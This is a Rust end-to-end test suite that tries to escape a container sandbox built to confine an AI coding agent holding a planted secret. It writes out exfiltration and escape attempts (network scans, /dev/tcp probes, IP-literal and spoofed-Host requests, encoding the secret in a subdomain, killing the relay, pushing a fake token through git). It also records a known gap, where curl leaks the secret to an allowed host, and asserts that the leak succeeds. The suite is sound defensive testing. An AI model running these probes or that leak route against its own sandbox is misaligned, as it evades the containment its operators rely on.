//! The escape suite: attacks run from inside a real bottle's agent container that holds a
//! planted secret. Each check passes only if the attack is blocked; the one known gap
//! (exfiltration through an allowed host) asserts today's behaviour and says so.
//!
//! One bottle serves every check (a bottle costs seconds to start): it has a credentialed
//! route to a fake HTTPS upstream, a git remote through the gate to a real sshd container, and
//! a second bottle next to it whose bundle must stay out of reach.

#![allow(clippy::unwrap_used)] // A panic in a test is a test failure.

use std::net::TcpListener;

use e2e::{
    Bottle, Home, SshKeys, TestCa, container_ip, container_sh, docker, hunt_script,
    start_git_upstream, start_upstream,
};

const SECRET: &str = "TESTSECRETq7w2e9r4";
const TOKEN: &str = "route-token-8Hk2Lm9Pq";

fn bottle_manifest(ca: &std::path::Path, keys: &SshKeys) -> String {
    format!(
        "---\n\
env:\n  TEST_SECRET: {SECRET}\n\
git:\n  - Name: app\n    Upstream: ssh://root@gitup.test/srv/app.git\n    IdentityFile: {key}\n    KnownHostKey: \"{pin}\"\n\
egress:\n  routes:\n    - host: api.test\n      auth: {{scheme: Bearer, token_ref: ROUTE_TOKEN}}\n  \
allow_private: [172.16.0.0/12, 192.168.0.0/16, 10.0.0.0/8]\n  extra_ca: {ca}\n---\n",
        key = keys.client_key.display(),
        pin = keys.host_pub,
        ca = ca.display(),
    )
}

/// Runs a Python snippet in the agent and returns its stdout.
fn py(bottle: &Bottle<'_>, program: &str) -> String {
    bottle.sh_ok(&format!("python3 -c '{program}'"))
}

#[tokio::test(flavor = "multi_thread")]
async fn escape_suite() {
    let mut home = Home::new();
    let ca = TestCa::new();
    let ca_path = home.dir.path().join("upstream-ca.pem");
    std::fs::write(&ca_path, &ca.cert_pem).unwrap();
    let keys = SshKeys::new();
    home.env.insert("ROUTE_TOKEN".into(), TOKEN.into());
    home.write("bottles", "victim", &bottle_manifest(&ca_path, &keys));
    home.write(
        "agents",
        "victim",
        "---\nbottle: victim\ncommand: \"sleep 100000\"\n---\n",
    );
    home.write(
        "agents",
        "neighbour",
        "---\nbottle: victim\ncommand: \"sleep 100000\"\n---\n",
    );

    // Host services on every address, IPv4 and IPv6, that must stay out of reach.
    let v4 = TcpListener::bind("0.0.0.0:0").unwrap();
    let port = v4.local_addr().unwrap().port();
    let _v6 = TcpListener::bind(("::", port)).ok();

    let bottle = home.start_detached("victim");
    let neighbour = home.start_detached("neighbour");
    let docker = docker().await;
    let upstream = start_upstream(&docker, &bottle.id, &bottle.network(), "api.test", &ca).await;
    let git_upstream =
        start_git_upstream(&docker, &bottle.id, &bottle.network(), "gitup.test", &keys).await;
    let upstream_ip = container_ip(&docker, &upstream, &bottle.network()).await;
    let neighbour_bundle_ip = container_ip(
        &docker,
        &format!("claude-bottle-{}-bundle", neighbour.id),
        &neighbour.network(),
    )
    .await;
    assert!(!upstream_ip.is_empty() && !neighbour_bundle_ip.is_empty());

    // The agent can use its route (so the refusals below are not a broken bottle).
    let ok = bottle.sh_ok(
        "for i in $(seq 50); do curl -sf https://api.test/ok >/dev/null && echo reached && exit 0; sleep 0.2; done",
    );
    assert_eq!(ok.trim(), "reached");

    // --- Invariant 1: no interface but loopback, nothing outside reachable. ---
    assert_eq!(bottle.sh_ok("ls /sys/class/net").trim(), "lo");
    let mut targets: Vec<String> = host_addresses();
    targets.push(upstream_ip.clone());
    targets.push(neighbour_bundle_ip.clone());
    let program = format!(
        "import socket\nfor a in {targets:?}:\n  for p in ({port}, 9099, 9418, 53, 22):\n    fam = socket.AF_INET6 if \":\" in a else socket.AF_INET\n    s = socket.socket(fam, socket.SOCK_STREAM); s.settimeout(2)\n    try:\n      s.connect((a, p)); print(\"REACHED\", a, p)\n    except OSError as e:\n      pass\n    finally:\n      s.close()\nprint(\"done\")"
    );
    let reach = py(&bottle, &program);
    assert_eq!(
        reach.trim(),
        "done",
        "the agent reached something off the box: {reach}"
    );
    // Its own loopback has only the relay: the host's service port is not there.
    let local = py(
        &bottle,
        &format!(
            "import socket\ns = socket.socket()\ntry:\n  s.connect((\"127.0.0.1\", {port})); print(\"REACHED\")\nexcept OSError:\n  print(\"refused\")"
        ),
    );
    assert_eq!(local.trim(), "refused");

    // --- The bundle serves only its Unix sockets: from the host, an unprivileged user (and
    // anything else on the egress bridge) finds no listener that would use the bottle's
    // credentials, gate-held keys or supervise queue. ---
    let bundle_name = format!("claude-bottle-{}-bundle", bottle.id);
    let bundle_ip = container_ip(&docker, &bundle_name, &bottle.network()).await;
    assert!(!bundle_ip.is_empty());
    let probe = format!(
        "for p in 9099 9418 9100 8888 80 443; do \
           timeout 2 bash -c \"exec 3<>/dev/tcp/{bundle_ip}/$p\" 2>/dev/null && echo ANSWERED $p; \
         done; echo done"
    );
    let as_nobody = std::process::Command::new("setpriv")
        .args([
            "--reuid=65534",
            "--regid=65534",
            "--clear-groups",
            "/bin/bash",
            "-c",
            &probe,
        ])
        .output()
        .expect("setpriv (util-linux) is needed");
    assert!(
        as_nobody.status.success(),
        "{}",
        String::from_utf8_lossy(&as_nobody.stderr)
    );
    assert_eq!(
        String::from_utf8_lossy(&as_nobody.stdout).trim(),
        "done",
        "a bundle port answers on the egress bridge"
    );
    // And inside the bundle nothing listens on TCP beyond its own loopback.
    let listeners = container_sh(&docker, &bundle_name, "ss -Hltn && echo ss-ok").await;
    assert!(
        listeners.contains("ss-ok"),
        "ss failed in the bundle: {listeners}"
    );
    let exposed: Vec<&str> = listeners
        .lines()
        .filter(|l| *l != "ss-ok")
        .filter(|l| {
            l.split_whitespace()
                .nth(3)
                .is_some_and(|local| !local.starts_with("127.") && !local.starts_with("[::1]"))
        })
        .collect();
    assert!(
        exposed.is_empty(),
        "the bundle listens beyond loopback: {exposed:?}"
    );

    // --- DNS: no resolver answers. ---
    let dns = bottle.sh("getent hosts api.github.com");
    assert!(!dns.status.success(), "name resolution worked in the agent");
    let udp = py(
        &bottle,
        "import socket\nfor a in (\"127.0.0.11\", \"172.17.0.1\"):\n  s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.settimeout(2)\n  try:\n    s.sendto(b\"\\x00\", (a, 53)); s.recvfrom(512); print(\"ANSWERED\", a)\n  except OSError:\n    pass\nprint(\"done\")",
    );
    assert_eq!(udp.trim(), "done", "{udp}");

    // --- No raw or packet sockets. ---
    let raw = py(
        &bottle,
        "import socket\nfor args in ((socket.AF_PACKET, socket.SOCK_RAW, 0), (socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP)):\n  try:\n    socket.socket(*args); print(\"OPENED\", args)\n  except PermissionError:\n    print(\"denied\")",
    );
    assert_eq!(raw.trim(), "denied\ndenied", "{raw}");

    // --- The relay runs as another user: it cannot be killed or replaced. ---
    let relay = bottle.sh_ok("ps -eo pid=,user=,args= | grep '[b]ottle-bundle relay'");
    let relay_pid = relay.split_whitespace().next().unwrap().to_owned();
    assert!(
        !relay.contains(" agent "),
        "the relay runs as the agent: {relay}"
    );
    let kill = bottle.sh(&format!("kill -9 {relay_pid}"));
    assert!(!kill.status.success());
    assert!(String::from_utf8_lossy(&kill.stderr).contains("not permitted"));
    let replace = bottle.sh("cp /bin/true /usr/local/bin/bottle-bundle");
    assert!(
        !replace.status.success(),
        "the agent replaced the relay binary"
    );
    assert!(
        bottle.sh(&format!("kill -0 {relay_pid}")).status.success() || {
            // kill -0 on another user's process fails with EPERM, which still means it exists.
            String::from_utf8_lossy(&bottle.sh(&format!("kill -0 {relay_pid}")).stderr)
                .contains("not permitted")
        }
    );

    // --- Invariant 3: the route token and the SSH key are nowhere in the agent. ---
    let key_line = std::fs::read_to_string(&keys.client_key).unwrap();
    let key_body = key_line.lines().nth(1).unwrap().to_owned();
    for secret in [TOKEN, key_body.as_str()] {
        let hits = bottle.sh_ok(&hunt_script(secret));
        assert_eq!(hits.trim(), "HITS []", "the agent can read a credential");
    }

    // --- Attack 1: a host without a route. ---
    let refused =
        bottle.sh("curl -s -o /dev/null -w '%{http_code}' https://not-routed.example.org/");
    assert_eq!(String::from_utf8_lossy(&refused.stdout), "403");

    // --- Attack 2: an IP literal, also with a spoofed Host header. ---
    for script in [
        format!(
            "curl -s -o /dev/null -w '%{{http_code}}' --max-time 10 -k https://{upstream_ip}/ip"
        ),
        format!(
            "curl -s -o /dev/null -w '%{{http_code}}' --max-time 10 -k -H 'Host: api.test' https://{upstream_ip}/spoof"
        ),
        format!(
            "curl -s -o /dev/null -w '%{{http_code}}' --max-time 10 http://{upstream_ip}/plain"
        ),
    ] {
        let out = bottle.sh(&script);
        let code = String::from_utf8_lossy(&out.stdout).to_string();
        assert!(
            code != "200",
            "an IP literal got through: {script} -> {code}"
        );
    }
    let seen = container_sh(&docker, &upstream, "cat /tmp/requests.jsonl").await;
    for path in ["/ip", "/spoof", "/plain"] {
        assert!(
            !seen.contains(&format!("\"path\": \"{path}\"")),
            "{path} reached the upstream:\n{seen}"
        );
    }

    // --- Attack 4: the secret as a subdomain of an allowed host; no route, no lookup. ---
    let sub = bottle.sh(&format!(
        "curl -s -w '\\n%{{http_code}}' https://{}.api.anthropic.com/",
        SECRET.to_lowercase()
    ));
    let text = String::from_utf8_lossy(&sub.stdout);
    assert!(text.trim_end().ends_with("403"), "{text}");

    // --- Invariant 5: HTTPS git push is refused on every route. ---
    let push = bottle.sh("curl -s -o /dev/null -w '%{http_code}' 'https://api.test/app.git/info/refs?service=git-receive-pack'");
    assert_eq!(String::from_utf8_lossy(&push.stdout), "403");

    // --- Attack 5: a commit carrying the secret, pushed through the gate. ---
    let accepted = || async {
        container_sh(
            &docker,
            &git_upstream,
            "grep -c 'Accepted publickey' /var/log/sshd.log || true",
        )
        .await
        .trim()
        .to_owned()
    };
    let clone = bottle.sh_ok(
        "cd /tmp && for i in $(seq 30); do git clone -q ssh://root@gitup.test/srv/app.git app 2>/tmp/clone.err && echo cloned && exit 0; sleep 1; done; cat /tmp/clone.err; exit 1",
    );
    assert!(clone.contains("cloned"), "{clone}");
    let upstream_main = || async {
        container_sh(&docker, &git_upstream, "git -C /srv/app.git rev-parse main").await
    };
    let before = upstream_main().await;
    let logins_before = accepted().await;
    // A GitHub token shape, assembled so this source file does not hold one.
    let leaked = format!("ghp_{}", "A1b2C3d4E5f6G7h8I9j0K1l2M3n4O5p6Q7r8");
    let push = bottle.sh(&format!(
        "cd /tmp/app && git -c user.name=a -c user.email=a@a.test commit -q --allow-empty -m start && \
         echo 'token = \"{leaked}\"' > config.py && git add config.py && \
         git -c user.name=a -c user.email=a@a.test commit -qm 'add config' && git push origin main"
    ));
    let err = String::from_utf8_lossy(&push.stderr);
    assert!(
        !push.status.success(),
        "a push carrying a secret was accepted:\n{err}"
    );
    assert!(err.contains("secret scanner"), "{err}");
    assert!(
        err.contains("github"),
        "the message does not name the rule:\n{err}"
    );
    assert!(
        !err.contains(&leaked),
        "the rejection echoed the secret:\n{err}"
    );
    assert_eq!(upstream_main().await, before, "the upstream moved");
    assert_eq!(
        accepted().await,
        logins_before,
        "the gate contacted the upstream"
    );
    // A clean push goes through (so the rejection above is the scanner, not a broken path).
    let clean = bottle.sh(
        "cd /tmp/app && git reset -q --hard origin/main && echo ok > notes.txt && git add notes.txt && \
         git -c user.name=a -c user.email=a@a.test commit -qm notes && git push -q origin main",
    );
    assert!(
        clean.status.success(),
        "{}",
        String::from_utf8_lossy(&clean.stderr)
    );
    assert_ne!(upstream_main().await, before);

    // --- Attack 3, a KNOWN GAP: exfiltration through an allowed host. ---
    // FIXME(egress DLP): the proxy does not inspect what the agent sends to a routed host, so
    // a secret the agent holds leaves in the path, query, body and headers. This asserts
    // today's behaviour; when outbound scanning lands, flip these to "blocked".
    bottle.sh_ok(&format!(
        "curl -sf -o /dev/null 'https://api.test/p/{SECRET}?q={SECRET}' -H 'X-Leak: {SECRET}' --data '{SECRET}'"
    ));
    let seen = container_sh(&docker, &upstream, "cat /tmp/requests.jsonl").await;
    let leaked_places = seen.matches(SECRET).count();
    assert!(
        leaked_places >= 4,
        "known gap changed: the secret no longer reaches the allowed host in every place ({leaked_places}); update this test"
    );

    drop(neighbour);
    drop(bottle);
}

/// Every non-loopback address this host has (IPv4 and IPv6, Docker bridges included), from
/// `ip -o addr`.
fn host_addresses() -> Vec<String> {
    let out = std::process::Command::new("ip")
        .args(["-o", "addr"])
        .output()
        .expect("ip (iproute2) is needed");
    String::from_utf8_lossy(&out.stdout)
        .lines()
        .filter_map(|l| {
            let mut w = l.split_whitespace();
            let family = w.nth(2)?;
            let cidr = w.next()?;
            matches!(family, "inet" | "inet6")
                .then(|| cidr.split('/').next().unwrap_or("").to_owned())
        })
        // Loopback inside the agent is its own (the relay); the host's is checked separately
        // through the service port above.
        .filter(|a| !a.is_empty() && !a.starts_with("fe80") && !a.starts_with("127.") && a != "::1")
        .collect()
}
